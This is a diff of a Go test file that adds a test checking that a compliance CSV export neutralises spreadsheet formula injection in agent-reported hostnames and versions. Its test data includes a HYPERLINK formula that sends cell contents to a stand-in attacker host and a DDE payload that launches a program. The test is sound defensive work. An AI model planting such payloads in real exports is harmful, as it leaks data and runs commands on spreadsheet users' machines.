@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -687,7 +688,7 @@ func TestCatalogAgeDays(t *testing.T) {
 }
 
 func TestCSVSafe(t *testing.T) {
-	for in, want := range map[string]string{"=cmd()": "'=cmd()", "+1": "'+1", "-x": "'-x", "@a": "'@a", "web1": "web1", "": ""} {
+	for in, want := range map[string]string{"=cmd()": "'=cmd()", "+1": "'+1", "-x": "'-x", "@a": "'@a", "\tx": "'\tx", "\r=1": "'\r=1", "web1": "web1", "": ""} {
 		if got := csvSafe(in); got != want {
 			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
 		}
@@ -856,6 +857,54 @@ func TestConcurrentReports(t *testing.T) {
 	for _, h := range list.Hosts {
 		if h.Items != 3 { // python3, one tool, the OS
 			t.Errorf("host %s has %d items, want 3", h.Hostname, h.Items)
+		}
+	}
+}
+
+// TestComplianceCSVNeutralisesFormulas sends hostile strings the way an agent
+// reports them (a hostname and an installed version that a spreadsheet would
+// run as formulas) and reads them back from the export: every such cell starts
+// with a quote, and the CSV still parses into the same columns.
+func TestComplianceCSVNeutralisesFormulas(t *testing.T) {
+	e := newTestEnv(t)
+	for i, tc := range []struct{ hostname, version string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "3.8.10-0ubuntu1~20.04"},
+		{"+host", "3.8.10-1"},
+		{"-host", "3.8.10-1"},
+		{"@host", "3.8.10-1"},
+		{"web1", "@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"web2", "=1+1"},
+	} {
+		install := fmt.Sprint("install-", i)
+		_, key := e.enroll(t, install, tc.hostname)
+		if code, _, b := e.report(t, key, fullReport("r1", install, tc.hostname, api.Item{Source: "dpkg", Name: "python3", Version: tc.version})); code != 200 {
+			t.Fatalf("report from %q: %d %s", tc.hostname, code, b)
+		}
+	}
+	resp, b := e.do(t, "GET", "/api/v1/compliance/export.csv", e.tokens[auth.RoleViewer], nil, nil)
+	if resp.StatusCode != 200 {
+		t.Fatalf("export.csv = %d %s", resp.StatusCode, b)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+	if err != nil {
+		t.Fatalf("export.csv does not parse: %v\n%s", err, b)
+	}
+	seen := map[string]bool{}
+	for _, row := range rows[1:] {
+		if len(row) != 10 {
+			t.Fatalf("row %q has %d cells, want 10", row, len(row))
+		}
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s of row %q starts with %q: a spreadsheet runs it", rows[0][i], row, cell[0])
+			}
+		}
+		seen[row[1]] = true
+		seen[row[4]] = true
+	}
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+host", "'-host", "'@host", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"} {
+		if !seen[want] {
+			t.Errorf("export.csv lacks the neutralised cell %q:\n%s", want, b)
 		}
 	}
 }
